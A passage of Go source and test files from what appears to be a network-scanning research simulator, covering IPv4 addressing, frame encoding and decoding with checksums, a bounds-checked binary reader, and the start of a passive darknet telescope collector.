		t.Fatalf("clean read: err=%v rest=%d", r.Err(), r.Len())
	}
}

// TestBinReaderStickyError verifies that a truncated buffer poisons
// the cursor instead of panicking, and that later reads stay zero.
func TestBinReaderStickyError(t *testing.T) {
	b := AppendU32(nil, 5) // claims 5 bytes follow, none do
	r := NewBinReader(b)
	if got := r.Bytes(); got != nil {
		t.Fatalf("truncated Bytes = %v", got)
	}
	if r.Err() == nil || !strings.Contains(r.Err().Error(), "truncated") {
		t.Fatalf("want truncation error, got %v", r.Err())
	}
	// Poisoned cursor: everything after reads as zero, error stays.
	if r.U64() != 0 || r.String() != "" || r.I32s() != nil {
		t.Fatal("poisoned reads should be zero")
	}
}

// TestBinReaderHostileCount verifies that a huge element count fails
// the length check before allocating.
func TestBinReaderHostileCount(t *testing.T) {
	b := AppendU32(nil, 0xFFFFFFF0) // count that cannot fit
	r := NewBinReader(b)
	if got := r.I32s(); got != nil || r.Err() == nil {
		t.Fatalf("hostile count: got %d elems, err %v", len(got), r.Err())
	}
}
