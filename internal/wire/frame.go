package wire

import (
	"encoding/binary"
	"errors"
	"fmt"
)

// Frame encoding: we emit Ethernet II + IPv4 + TCP/UDP frames with
// valid checksums so captures written by internal/pcap open cleanly in
// standard analyzers. Decoding is strict about lengths and tolerant of
// trailing padding, mirroring how capture tooling treats short frames.

const (
	ethHeaderLen  = 14
	ipv4HeaderLen = 20
	tcpHeaderLen  = 20
	udpHeaderLen  = 8
	etherTypeIPv4 = 0x0800
)

// Frame-decoding errors.
var (
	ErrFrameShort    = errors.New("wire: frame too short")
	ErrNotIPv4       = errors.New("wire: not an IPv4 frame")
	ErrBadIPHeader   = errors.New("wire: bad IPv4 header")
	ErrUnknownProto  = errors.New("wire: unsupported transport protocol")
	ErrBadChecksum   = errors.New("wire: checksum mismatch")
	ErrTruncatedBody = errors.New("wire: truncated transport body")
)

// EncodeFrame serializes p as Ethernet II + IPv4 + TCP/UDP with
// computed IPv4 and transport checksums. MAC addresses are synthetic
// (derived from the IPs) since the simulation has no link layer.
func EncodeFrame(p Packet) ([]byte, error) {
	var transport []byte
	switch p.Proto {
	case TCP:
		transport = encodeTCP(p)
	case UDP:
		transport = encodeUDP(p)
	default:
		return nil, fmt.Errorf("%w: %d", ErrUnknownProto, p.Proto)
	}

	totalIP := ipv4HeaderLen + len(transport)
	if totalIP > 0xFFFF {
		return nil, fmt.Errorf("wire: payload too large for IPv4 (%d bytes)", totalIP)
	}
	frame := make([]byte, ethHeaderLen+totalIP)

	// Ethernet II header with synthetic locally-administered MACs.
	copy(frame[0:6], syntheticMAC(p.Dst))
	copy(frame[6:12], syntheticMAC(p.Src))
	binary.BigEndian.PutUint16(frame[12:14], etherTypeIPv4)

	ip := frame[ethHeaderLen:]
	ip[0] = 0x45 // version 4, IHL 5
	binary.BigEndian.PutUint16(ip[2:4], uint16(totalIP))
	ip[8] = 64 // TTL
	ip[9] = byte(p.Proto)
	binary.BigEndian.PutUint32(ip[12:16], uint32(p.Src))
	binary.BigEndian.PutUint32(ip[16:20], uint32(p.Dst))
	binary.BigEndian.PutUint16(ip[10:12], internetChecksum(ip[:ipv4HeaderLen]))

	copy(ip[ipv4HeaderLen:], transport)
	// Transport checksum over pseudo-header + segment.
	csumOff := ipv4HeaderLen + transportChecksumOffset(p.Proto)
	seg := ip[ipv4HeaderLen:]
	binary.BigEndian.PutUint16(ip[csumOff:csumOff+2], pseudoChecksum(p.Src, p.Dst, p.Proto, seg))
	return frame, nil
}

func transportChecksumOffset(t Transport) int {
	if t == TCP {
		return 16
	}
	return 6
}

func encodeTCP(p Packet) []byte {
	seg := make([]byte, tcpHeaderLen+len(p.Payload))
	binary.BigEndian.PutUint16(seg[0:2], p.SrcPort)
	binary.BigEndian.PutUint16(seg[2:4], p.DstPort)
	// Sequence/ack numbers are synthetic but deterministic.
	binary.BigEndian.PutUint32(seg[4:8], uint32(p.Src)^uint32(p.SrcPort))
	seg[12] = (tcpHeaderLen / 4) << 4 // data offset
	seg[13] = byte(p.Flags)
	binary.BigEndian.PutUint16(seg[14:16], 65535) // window
	copy(seg[tcpHeaderLen:], p.Payload)
	return seg
}

func encodeUDP(p Packet) []byte {
	seg := make([]byte, udpHeaderLen+len(p.Payload))
	binary.BigEndian.PutUint16(seg[0:2], p.SrcPort)
	binary.BigEndian.PutUint16(seg[2:4], p.DstPort)
	binary.BigEndian.PutUint16(seg[4:6], uint16(len(seg)))
	copy(seg[udpHeaderLen:], p.Payload)
	return seg
}

// DecodeFrame parses a frame produced by EncodeFrame (or any Ethernet
// II + IPv4 + TCP/UDP frame) back into a Packet. The IPv4 header
// checksum is verified; the transport checksum is verified when the
// full segment is present.
func DecodeFrame(frame []byte) (Packet, error) {
	var p Packet
	if len(frame) < ethHeaderLen+ipv4HeaderLen {
		return p, ErrFrameShort
	}
	if binary.BigEndian.Uint16(frame[12:14]) != etherTypeIPv4 {
		return p, ErrNotIPv4
	}
	ip := frame[ethHeaderLen:]
	if ip[0]>>4 != 4 {
		return p, ErrNotIPv4
	}
	ihl := int(ip[0]&0x0F) * 4
	if ihl < ipv4HeaderLen || len(ip) < ihl {
		return p, ErrBadIPHeader
	}
	if internetChecksum(ip[:ihl]) != 0 {
		return p, fmt.Errorf("%w: IPv4 header", ErrBadChecksum)
	}
	totalIP := int(binary.BigEndian.Uint16(ip[2:4]))
	if totalIP < ihl || totalIP > len(ip) {
		return p, ErrBadIPHeader
	}
	p.Proto = Transport(ip[9])
	p.Src = Addr(binary.BigEndian.Uint32(ip[12:16]))
	p.Dst = Addr(binary.BigEndian.Uint32(ip[16:20]))

	seg := ip[ihl:totalIP]
	switch p.Proto {
	case TCP:
		if len(seg) < tcpHeaderLen {
			return p, ErrTruncatedBody
		}
		p.SrcPort = binary.BigEndian.Uint16(seg[0:2])
		p.DstPort = binary.BigEndian.Uint16(seg[2:4])
		dataOff := int(seg[12]>>4) * 4
		if dataOff < tcpHeaderLen || dataOff > len(seg) {
			return p, ErrTruncatedBody
		}
		p.Flags = TCPFlags(seg[13])
		if pseudoChecksum(p.Src, p.Dst, TCP, seg) != 0 {
			return p, fmt.Errorf("%w: TCP segment", ErrBadChecksum)
		}
		p.Payload = append([]byte(nil), seg[dataOff:]...)
	case UDP:
		if len(seg) < udpHeaderLen {
			return p, ErrTruncatedBody
		}
		p.SrcPort = binary.BigEndian.Uint16(seg[0:2])
		p.DstPort = binary.BigEndian.Uint16(seg[2:4])
		ulen := int(binary.BigEndian.Uint16(seg[4:6]))
		if ulen < udpHeaderLen || ulen > len(seg) {
			return p, ErrTruncatedBody
		}
		if pseudoChecksum(p.Src, p.Dst, UDP, seg[:ulen]) != 0 {
			return p, fmt.Errorf("%w: UDP datagram", ErrBadChecksum)
		}
		p.Payload = append([]byte(nil), seg[udpHeaderLen:ulen]...)
	default:
		return p, fmt.Errorf("%w: %d", ErrUnknownProto, ip[9])
	}
	if len(p.Payload) == 0 {
		p.Payload = nil
	}
	return p, nil
}

// internetChecksum is the RFC 1071 ones'-complement sum.
func internetChecksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i : i+2]))
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum > 0xFFFF {
		sum = (sum & 0xFFFF) + (sum >> 16)
	}
	return ^uint16(sum)
}

// pseudoChecksum computes the TCP/UDP checksum including the IPv4
// pseudo-header. When the segment already carries its checksum, a
// valid segment sums to zero.
func pseudoChecksum(src, dst Addr, proto Transport, seg []byte) uint16 {
	pseudo := make([]byte, 12, 12+len(seg)+1)
	binary.BigEndian.PutUint32(pseudo[0:4], uint32(src))
	binary.BigEndian.PutUint32(pseudo[4:8], uint32(dst))
	pseudo[9] = byte(proto)
	binary.BigEndian.PutUint16(pseudo[10:12], uint16(len(seg)))
	pseudo = append(pseudo, seg...)
	return internetChecksum(pseudo)
}

// syntheticMAC derives a stable locally-administered MAC from an IPv4
// address so frames are self-consistent without a modeled link layer.
func syntheticMAC(a Addr) []byte {
	o := a.Octets()
	return []byte{0x02, 0x00, o[0], o[1], o[2], o[3]}
}
