package wire

import (
	"testing"
	"testing/quick"
)

func TestTransportString(t *testing.T) {
	if TCP.String() != "tcp" || UDP.String() != "udp" {
		t.Errorf("TCP=%q UDP=%q", TCP.String(), UDP.String())
	}
	if Transport(47).String() != "proto(47)" {
		t.Errorf("unknown = %q", Transport(47).String())
	}
}

func TestTCPFlags(t *testing.T) {
	f := FlagSYN | FlagACK
	if !f.Has(FlagSYN) || !f.Has(FlagACK) || f.Has(FlagFIN) {
		t.Errorf("flag membership broken for %v", f)
	}
	if f.String() != "SYN|ACK" {
		t.Errorf("String = %q, want SYN|ACK", f.String())
	}
	if TCPFlags(0).String() != "none" {
		t.Errorf("zero flags = %q", TCPFlags(0).String())
	}
}

func TestIsSYN(t *testing.T) {
	syn := Packet{Proto: TCP, Flags: FlagSYN}
	if !syn.IsSYN() {
		t.Error("bare SYN should be IsSYN")
	}
	synAck := Packet{Proto: TCP, Flags: FlagSYN | FlagACK}
	if synAck.IsSYN() {
		t.Error("SYN|ACK should not be IsSYN")
	}
	udp := Packet{Proto: UDP, Flags: FlagSYN}
	if udp.IsSYN() {
		t.Error("UDP packet should not be IsSYN")
	}
}

func TestFlowBasics(t *testing.T) {
	p := Packet{
		Src: MustParseAddr("10.0.0.1"), SrcPort: 1234,
		Dst: MustParseAddr("10.0.0.2"), DstPort: 80,
	}
	f := FlowOf(p)
	if f.Src.String() != "10.0.0.1:1234" || f.Dst.String() != "10.0.0.2:80" {
		t.Errorf("flow endpoints: %v", f)
	}
	r := f.Reverse()
	if r.Src != f.Dst || r.Dst != f.Src {
		t.Errorf("Reverse broken: %v", r)
	}
	if f.String() != "10.0.0.1:1234 -> 10.0.0.2:80" {
		t.Errorf("String = %q", f.String())
	}
	// Flows must be usable as map keys.
	m := map[Flow]int{f: 1}
	if m[FlowOf(p)] != 1 {
		t.Error("flow map lookup failed")
	}
}

func TestFlowFastHashSymmetricProperty(t *testing.T) {
	f := func(a, b uint32, pa, pb uint16) bool {
		fl := Flow{
			Src: Endpoint{Addr: Addr(a), Port: pa},
			Dst: Endpoint{Addr: Addr(b), Port: pb},
		}
		return fl.FastHash() == fl.Reverse().FastHash()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestFlowFastHashDiscriminates(t *testing.T) {
	// Not a strict requirement, but hash should separate obviously
	// different flows in a small sample.
	seen := map[uint64]bool{}
	collisions := 0
	for i := 0; i < 1000; i++ {
		fl := Flow{
			Src: Endpoint{Addr: Addr(i * 2654435761), Port: uint16(i)},
			Dst: Endpoint{Addr: Addr(i*40503 + 7), Port: uint16(i + 1)},
		}
		h := fl.FastHash()
		if seen[h] {
			collisions++
		}
		seen[h] = true
	}
	if collisions > 5 {
		t.Errorf("%d hash collisions in 1000 flows", collisions)
	}
}
