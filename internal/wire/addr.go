// Package wire provides the packet model shared by the simulator, the
// honeypot collectors, the telescope, and the capture format: IPv4
// addressing and CIDR blocks, transport-level packet records, flow and
// endpoint abstractions (in the spirit of gopacket), and binary
// encoding of Ethernet/IPv4/TCP/UDP frames with correct checksums so
// captures are readable by standard tooling.
package wire

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
)

// Addr is an IPv4 address in host byte order. The zero value is
// 0.0.0.0.
type Addr uint32

// ErrBadAddr reports an unparseable IPv4 address or CIDR.
var ErrBadAddr = errors.New("wire: bad IPv4 address")

// AddrFrom4 builds an Addr from four octets (a.b.c.d).
func AddrFrom4(a, b, c, d byte) Addr {
	return Addr(uint32(a)<<24 | uint32(b)<<16 | uint32(c)<<8 | uint32(d))
}

// ParseAddr parses dotted-quad notation ("203.0.113.7").
func ParseAddr(s string) (Addr, error) {
	parts := strings.Split(s, ".")
	if len(parts) != 4 {
		return 0, fmt.Errorf("%w: %q", ErrBadAddr, s)
	}
	var oct [4]byte
	for i, p := range parts {
		v, err := strconv.Atoi(p)
		if err != nil || v < 0 || v > 255 || (len(p) > 1 && p[0] == '0') {
			return 0, fmt.Errorf("%w: %q", ErrBadAddr, s)
		}
		oct[i] = byte(v)
	}
	return AddrFrom4(oct[0], oct[1], oct[2], oct[3]), nil
}

// MustParseAddr is ParseAddr that panics on error; for constants in
// tests and tables.
func MustParseAddr(s string) Addr {
	a, err := ParseAddr(s)
	if err != nil {
		panic(err)
	}
	return a
}

// Octets returns the four dotted-quad octets of a.
func (a Addr) Octets() [4]byte {
	return [4]byte{byte(a >> 24), byte(a >> 16), byte(a >> 8), byte(a)}
}

// Octet returns the i-th octet (0 = most significant). It panics if i
// is outside [0,3].
func (a Addr) Octet(i int) byte {
	if i < 0 || i > 3 {
		panic("wire: octet index out of range")
	}
	return byte(a >> (24 - 8*uint(i)))
}

// String renders dotted-quad notation.
func (a Addr) String() string {
	o := a.Octets()
	return fmt.Sprintf("%d.%d.%d.%d", o[0], o[1], o[2], o[3])
}

// HasOctet reports whether any of the four octets equals v. §4.2 of
// the paper finds scanners avoiding addresses "with a '255' present in
// any octet".
func (a Addr) HasOctet(v byte) bool {
	o := a.Octets()
	return o[0] == v || o[1] == v || o[2] == v || o[3] == v
}

// IsBroadcastStyle reports whether the address ends in .255, the
// "likely reserved for broadcasting purposes" structure of §4.2.
func (a Addr) IsBroadcastStyle() bool { return byte(a) == 255 }

// IsSlash16Start reports whether the address is the first address of
// its /16 (x.B.0.0), the structure Mirai/PonyNet prefer as a first
// scanning target per §4.2.
func (a Addr) IsSlash16Start() bool { return a&0xFFFF == 0 }

// Block is an IPv4 CIDR block.
type Block struct {
	Base Addr // network address (low bits zero)
	Bits int  // prefix length in [0, 32]
}

// ParseBlock parses CIDR notation ("198.51.100.0/24").
func ParseBlock(s string) (Block, error) {
	slash := strings.IndexByte(s, '/')
	if slash < 0 {
		return Block{}, fmt.Errorf("%w: missing prefix in %q", ErrBadAddr, s)
	}
	base, err := ParseAddr(s[:slash])
	if err != nil {
		return Block{}, err
	}
	bits, err := strconv.Atoi(s[slash+1:])
	if err != nil || bits < 0 || bits > 32 {
		return Block{}, fmt.Errorf("%w: bad prefix in %q", ErrBadAddr, s)
	}
	b := Block{Base: base, Bits: bits}
	b.Base = base & b.mask()
	return b, nil
}

// MustParseBlock is ParseBlock that panics on error.
func MustParseBlock(s string) Block {
	b, err := ParseBlock(s)
	if err != nil {
		panic(err)
	}
	return b
}

func (b Block) mask() Addr {
	if b.Bits == 0 {
		return 0
	}
	return Addr(^uint32(0) << (32 - uint(b.Bits)))
}

// Contains reports whether a lies inside the block.
func (b Block) Contains(a Addr) bool { return a&b.mask() == b.Base }

// Size returns the number of addresses in the block.
func (b Block) Size() int {
	return 1 << (32 - uint(b.Bits))
}

// Nth returns the i-th address of the block (0 = network address). It
// panics if i is outside the block.
func (b Block) Nth(i int) Addr {
	if i < 0 || i >= b.Size() {
		panic(fmt.Sprintf("wire: address %d outside %s", i, b))
	}
	return b.Base + Addr(i)
}

// Index returns the offset of a within the block and whether it is a
// member.
func (b Block) Index(a Addr) (int, bool) {
	if !b.Contains(a) {
		return 0, false
	}
	return int(a - b.Base), true
}

// String renders CIDR notation.
func (b Block) String() string { return fmt.Sprintf("%s/%d", b.Base, b.Bits) }

// SlashBlock returns the enclosing /bits network of a.
func SlashBlock(a Addr, bits int) Block {
	b := Block{Base: a, Bits: bits}
	b.Base = a & b.mask()
	return b
}
