package wire

import (
	"bytes"
	"encoding/binary"
	"math/rand"
	"testing"
	"testing/quick"
	"time"
)

func samplePacket(proto Transport) Packet {
	return Packet{
		Time:    time.Unix(1625097600, 0),
		Src:     MustParseAddr("203.0.113.7"),
		Dst:     MustParseAddr("198.51.100.9"),
		SrcPort: 54321,
		DstPort: 22,
		Proto:   proto,
		Flags:   FlagSYN,
		Payload: []byte("SSH-2.0-OpenSSH_8.2\r\n"),
	}
}

func TestFrameRoundTripTCP(t *testing.T) {
	p := samplePacket(TCP)
	frame, err := EncodeFrame(p)
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeFrame(frame)
	if err != nil {
		t.Fatal(err)
	}
	if got.Src != p.Src || got.Dst != p.Dst || got.SrcPort != p.SrcPort || got.DstPort != p.DstPort {
		t.Errorf("addressing mismatch: %+v", got)
	}
	if got.Proto != TCP || got.Flags != FlagSYN {
		t.Errorf("proto/flags mismatch: %v %v", got.Proto, got.Flags)
	}
	if !bytes.Equal(got.Payload, p.Payload) {
		t.Errorf("payload = %q, want %q", got.Payload, p.Payload)
	}
}

func TestFrameRoundTripUDP(t *testing.T) {
	p := samplePacket(UDP)
	p.Flags = 0
	frame, err := EncodeFrame(p)
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeFrame(frame)
	if err != nil {
		t.Fatal(err)
	}
	if got.Proto != UDP || !bytes.Equal(got.Payload, p.Payload) {
		t.Errorf("UDP round trip: %+v", got)
	}
}

func TestFrameEmptyPayload(t *testing.T) {
	p := samplePacket(TCP)
	p.Payload = nil
	frame, err := EncodeFrame(p)
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeFrame(frame)
	if err != nil {
		t.Fatal(err)
	}
	if got.Payload != nil {
		t.Errorf("payload = %v, want nil", got.Payload)
	}
}

func TestEncodeFrameUnknownProto(t *testing.T) {
	p := samplePacket(Transport(99))
	if _, err := EncodeFrame(p); err == nil {
		t.Error("unknown transport should fail")
	}
}

func TestEncodeFrameTooLarge(t *testing.T) {
	p := samplePacket(TCP)
	p.Payload = make([]byte, 70000)
	if _, err := EncodeFrame(p); err == nil {
		t.Error("oversized payload should fail")
	}
}

func TestDecodeFrameCorruption(t *testing.T) {
	p := samplePacket(TCP)
	frame, err := EncodeFrame(p)
	if err != nil {
		t.Fatal(err)
	}

	short := frame[:10]
	if _, err := DecodeFrame(short); err == nil {
		t.Error("short frame should fail")
	}

	badEther := append([]byte(nil), frame...)
	binary.BigEndian.PutUint16(badEther[12:14], 0x86DD) // IPv6 ethertype
	if _, err := DecodeFrame(badEther); err == nil {
		t.Error("non-IPv4 ethertype should fail")
	}

	badIPSum := append([]byte(nil), frame...)
	badIPSum[ethHeaderLen+12] ^= 0xFF // flip a source-address byte
	if _, err := DecodeFrame(badIPSum); err == nil {
		t.Error("corrupted IP header should fail checksum")
	}

	badPayload := append([]byte(nil), frame...)
	badPayload[len(badPayload)-1] ^= 0xFF
	if _, err := DecodeFrame(badPayload); err == nil {
		t.Error("corrupted payload should fail TCP checksum")
	}
}

func TestFrameRoundTripProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		proto := TCP
		if rng.Intn(2) == 0 {
			proto = UDP
		}
		payload := make([]byte, rng.Intn(600))
		rng.Read(payload)
		p := Packet{
			Src:     Addr(rng.Uint32()),
			Dst:     Addr(rng.Uint32()),
			SrcPort: uint16(rng.Intn(65536)),
			DstPort: uint16(rng.Intn(65536)),
			Proto:   proto,
			Flags:   TCPFlags(rng.Intn(256)),
			Payload: payload,
		}
		frame, err := EncodeFrame(p)
		if err != nil {
			return false
		}
		got, err := DecodeFrame(frame)
		if err != nil {
			return false
		}
		if got.Src != p.Src || got.Dst != p.Dst || got.SrcPort != p.SrcPort || got.DstPort != p.DstPort {
			return false
		}
		if proto == TCP && got.Flags != p.Flags {
			return false
		}
		if len(payload) == 0 {
			return got.Payload == nil
		}
		return bytes.Equal(got.Payload, payload)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 250}); err != nil {
		t.Error(err)
	}
}

func TestDecodeFrameNeverPanicsProperty(t *testing.T) {
	f := func(data []byte) bool {
		_, _ = DecodeFrame(data) // must not panic
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestInternetChecksumOddLength(t *testing.T) {
	// Verifies the odd-byte padding path against a manual computation:
	// bytes 0x01 0x02 0x03 -> words 0x0102, 0x0300.
	sum := internetChecksum([]byte{0x01, 0x02, 0x03})
	want := ^uint16(0x0102 + 0x0300)
	if sum != want {
		t.Errorf("checksum = %#x, want %#x", sum, want)
	}
}
