package wire

import (
	"encoding/binary"
	"fmt"
	"math"
)

// Binary append/read helpers shared by the durable-store codecs
// (internal/netsim, internal/telescope, internal/greynoise serialize
// their sealed epoch state through these; internal/store frames the
// result). Everything is little-endian and length-prefixed; the append
// side grows a caller-owned []byte, the read side is a cursor with a
// sticky error so decoders can chain reads and check once.

// AppendU8 appends one byte.
func AppendU8(dst []byte, v uint8) []byte { return append(dst, v) }

// AppendU16 appends a little-endian uint16.
func AppendU16(dst []byte, v uint16) []byte { return binary.LittleEndian.AppendUint16(dst, v) }

// AppendU32 appends a little-endian uint32.
func AppendU32(dst []byte, v uint32) []byte { return binary.LittleEndian.AppendUint32(dst, v) }

// AppendU64 appends a little-endian uint64.
func AppendU64(dst []byte, v uint64) []byte { return binary.LittleEndian.AppendUint64(dst, v) }

// AppendI32 appends a little-endian int32.
func AppendI32(dst []byte, v int32) []byte { return AppendU32(dst, uint32(v)) }

// AppendF64 appends the IEEE 754 bits of a float64.
func AppendF64(dst []byte, v float64) []byte { return AppendU64(dst, math.Float64bits(v)) }

// AppendBytes appends a u32 length prefix followed by the bytes.
func AppendBytes(dst, b []byte) []byte {
	dst = AppendU32(dst, uint32(len(b)))
	return append(dst, b...)
}

// AppendString appends a u32 length prefix followed by the string bytes.
func AppendString(dst []byte, s string) []byte {
	dst = AppendU32(dst, uint32(len(s)))
	return append(dst, s...)
}

// AppendI32s appends a u32 count followed by the raw int32 values.
func AppendI32s(dst []byte, vs []int32) []byte {
	dst = AppendU32(dst, uint32(len(vs)))
	for _, v := range vs {
		dst = AppendI32(dst, v)
	}
	return dst
}

// AppendAddrs appends a u32 count followed by the addresses as u32s.
func AppendAddrs(dst []byte, vs []Addr) []byte {
	dst = AppendU32(dst, uint32(len(vs)))
	for _, v := range vs {
		dst = AppendU32(dst, uint32(v))
	}
	return dst
}

// BinReader is a cursor over an encoded buffer with a sticky error:
// the first malformed read poisons the cursor, every later read
// returns zero values, and decoders check Err once at the end. Counts
// and lengths are validated against the remaining bytes before any
// allocation, so corrupt (CRC-evading) input cannot force
// pathological allocations.
type BinReader struct {
	buf []byte
	off int
	err error
}

// NewBinReader returns a cursor over buf.
func NewBinReader(buf []byte) *BinReader { return &BinReader{buf: buf} }

// Err returns the first decode error, or nil.
func (r *BinReader) Err() error { return r.err }

// Len returns the number of unread bytes.
func (r *BinReader) Len() int { return len(r.buf) - r.off }

// Rest returns the unread tail without consuming it.
func (r *BinReader) Rest() []byte { return r.buf[r.off:] }

func (r *BinReader) fail(what string) {
	if r.err == nil {
		r.err = fmt.Errorf("wire: truncated %s at offset %d", what, r.off)
	}
}

func (r *BinReader) take(n int, what string) []byte {
	if r.err != nil {
		return nil
	}
	if n < 0 || r.Len() < n {
		r.fail(what)
		return nil
	}
	b := r.buf[r.off : r.off+n]
	r.off += n
	return b
}

// U8 reads one byte.
func (r *BinReader) U8() uint8 {
	b := r.take(1, "u8")
	if b == nil {
		return 0
	}
	return b[0]
}

// U16 reads a little-endian uint16.
func (r *BinReader) U16() uint16 {
	b := r.take(2, "u16")
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint16(b)
}

// U32 reads a little-endian uint32.
func (r *BinReader) U32() uint32 {
	b := r.take(4, "u32")
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint32(b)
}

// U64 reads a little-endian uint64.
func (r *BinReader) U64() uint64 {
	b := r.take(8, "u64")
	if b == nil {
		return 0
	}
	return binary.LittleEndian.Uint64(b)
}

// I32 reads a little-endian int32.
func (r *BinReader) I32() int32 { return int32(r.U32()) }

// F64 reads a float64 from its IEEE 754 bits.
func (r *BinReader) F64() float64 { return math.Float64frombits(r.U64()) }

// Count reads a u32 element count and validates it against the
// remaining bytes assuming each element costs at least elemSize bytes,
// so corrupt counts fail instead of allocating.
func (r *BinReader) Count(elemSize int) int {
	n := int(r.U32())
	if r.err != nil {
		return 0
	}
	if n < 0 || (elemSize > 0 && n > r.Len()/elemSize) {
		r.fail("count")
		return 0
	}
	return n
}

// Bytes reads a u32 length prefix and returns a copy of the bytes.
func (r *BinReader) Bytes() []byte {
	n := r.Count(1)
	b := r.take(n, "bytes")
	if b == nil {
		return nil
	}
	return append([]byte(nil), b...)
}

// String reads a u32 length prefix and the string bytes.
func (r *BinReader) String() string {
	n := r.Count(1)
	b := r.take(n, "string")
	return string(b)
}

// I32s reads a u32 count followed by that many int32 values.
func (r *BinReader) I32s() []int32 {
	n := r.Count(4)
	if r.err != nil || n == 0 {
		return nil
	}
	out := make([]int32, n)
	for i := range out {
		out[i] = r.I32()
	}
	return out
}

// Addrs reads a u32 count followed by that many addresses.
func (r *BinReader) Addrs() []Addr {
	n := r.Count(4)
	if r.err != nil || n == 0 {
		return nil
	}
	out := make([]Addr, n)
	for i := range out {
		out[i] = Addr(r.U32())
	}
	return out
}
