// Package telescope implements the Orion-style network telescope of
// §3.1: a passive collector over unused address space that records
// only the first packet of each connection — no handshake, no
// payloads, no credentials. Because the darknet spans hundreds of
// thousands of addresses, the collector aggregates in place rather
// than materializing per-packet records: unique sources and AS
// frequencies per port (Tables 8–10), and per-destination unique-
// source counts for the watched ports (Figure 1).
package telescope

import (
	"maps"
	"sort"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/stats"
	"cloudwatch/internal/wire"
)

// watchLog is the columnar per-destination tracking of one watched
// port: an append-only (dst, src) observation log with a run-length
// skip (sweeps emit long runs of one pair). Uniqueness is deferred to
// the reader — PerAddressSeries sorts and dedups the packed pairs —
// so observing costs two column appends instead of two nested map
// probes, and merging shard logs is a column concatenation.
type watchLog struct {
	dst []wire.Addr
	src []wire.Addr

	lastDst, lastSrc wire.Addr
	lastOK           bool
}

// observe appends one (dst, src) pair unless it repeats the previous
// one. Skipped pairs are always already in the log, so the read-side
// dedup sees the same unique-pair set the historical per-address maps
// held.
func (l *watchLog) observe(dst, src wire.Addr) {
	if l.lastOK && dst == l.lastDst && src == l.lastSrc {
		return
	}
	l.dst = append(l.dst, dst)
	l.src = append(l.src, src)
	l.lastDst, l.lastSrc, l.lastOK = dst, src, true
}

// Collector aggregates darknet traffic. Not safe for concurrent use;
// the parallel study driver gives each worker a private Collector and
// folds the shards together with Merge.
type Collector struct {
	srcsByPort map[uint16]map[wire.Addr]struct{}
	asByPort   map[uint16]stats.Freq
	perAddr    map[uint16]*watchLog
	watch      map[uint16]bool
	packets    int

	// Per-port lookup cache for the observe hot path: sweeps hammer
	// one port for long stretches, so the three per-probe map lookups
	// collapse to a port comparison. Valid only between Observe calls
	// (single-goroutine use, per the type contract).
	cachePort  uint16
	cacheOK    bool
	cacheSrcs  map[wire.Addr]struct{}
	cacheFreq  stats.Freq
	cacheWatch *watchLog // nil when port unwatched

	// Source-repeat cache: a sweep emits long runs of probes from one
	// source to one port, so the unique-source set insert is skipped
	// while the (port, src) pair repeats.
	cacheSrc   wire.Addr
	cacheSrcOK bool

	// Per-AS deferred count: consecutive probes come from one actor
	// (one AS), so AS-frequency increments accumulate in a plain
	// counter and flush into cacheFreq when the (port, ASN) run ends —
	// one map assignment per run instead of per probe. flushAS runs on
	// port/ASN switches, on Merge (both sides), and on the frequency
	// readers; a merged study collector never observes, so its reads
	// stay mutation-free and safe for concurrent experiments.
	cacheASN int
	cacheKey string
	asValid  bool
	pending  float64
}

// New returns a collector tracking per-destination detail for the
// watched ports (Figure 1 needs ports 22, 80, 445, 17128).
func New(watchPorts ...uint16) *Collector {
	w := make(map[uint16]bool, len(watchPorts))
	for _, p := range watchPorts {
		w[p] = true
	}
	return &Collector{
		srcsByPort: map[uint16]map[wire.Addr]struct{}{},
		asByPort:   map[uint16]stats.Freq{},
		perAddr:    map[uint16]*watchLog{},
		watch:      w,
	}
}

// Observe records the first packet of a probe. Telescopes do not
// complete handshakes, so payloads and credentials are dropped by
// construction. The probe is borrowed for the duration of the call:
// callers may reuse the pointed-to value, and the collector keeps only
// scalar fields.
func (c *Collector) Observe(p *netsim.Probe) {
	c.packets++
	if !c.cacheOK || p.Port != c.cachePort {
		c.fillPortCache(p.Port)
	}
	if !c.cacheSrcOK || p.Src != c.cacheSrc {
		c.cacheSrcs[p.Src] = struct{}{}
		c.cacheSrc, c.cacheSrcOK = p.Src, true
	}

	if p.ASN != c.cacheASN || !c.asValid {
		c.flushAS()
		c.cacheASN = p.ASN
		c.asValid = true
		if as, found := netsim.LookupAS(p.ASN); found {
			c.cacheKey = as.Key()
		} else {
			c.cacheKey = "unknown"
		}
	}
	c.pending++

	if log := c.cacheWatch; log != nil {
		log.observe(p.Dst, p.Src)
	}
}

// ObserveRun is Observe for callers that track (port, src[, dst]) runs
// themselves — the streaming engine's epoch shards see every probe of a
// worker and dedup runs across that worker's per-epoch collectors,
// where each collector's own run caches would miss (a run's probes
// round-robin across epochs, so no single collector sees the
// repetition). srcNew=false promises p.Src is already in this
// collector's port-src set for p.Port within the current run;
// pairNew=false promises the (p.Dst, p.Src) pair is already in this
// collector's watch log for p.Port. Packet and AS-frequency counting
// are never skipped — only the idempotent set insert and the watch-log
// append, so the aggregated state is identical to per-probe Observe.
func (c *Collector) ObserveRun(p *netsim.Probe, srcNew, pairNew bool) {
	c.packets++
	if !c.cacheOK || p.Port != c.cachePort {
		c.fillPortCache(p.Port)
	}
	if srcNew {
		c.cacheSrcs[p.Src] = struct{}{}
		c.cacheSrc, c.cacheSrcOK = p.Src, true
	}

	if p.ASN != c.cacheASN || !c.asValid {
		c.flushAS()
		c.cacheASN = p.ASN
		c.asValid = true
		if as, found := netsim.LookupAS(p.ASN); found {
			c.cacheKey = as.Key()
		} else {
